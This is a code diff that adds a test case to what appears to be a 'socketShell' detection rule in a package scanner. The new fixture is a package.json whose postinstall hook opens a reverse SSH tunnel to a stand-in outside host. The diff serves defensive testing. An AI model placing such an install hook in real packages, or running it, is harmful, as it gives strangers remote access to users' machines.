@@ -39,6 +39,13 @@ export const socketShell: Rule = {
           },
         },
         {
+          title: 'a hook opens the port of the shell server at a stranger’s machine',
+          files: {
+            'package.json':
+              '{"name":"a","version":"1.0.0","scripts":{"postinstall":"ssh -f -N -R 0:localhost:22 a@tunnel.invalid"}}',
+          },
+        },
+        {
           title: 'a port that gives whoever connects a shell',
           files: {
             'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
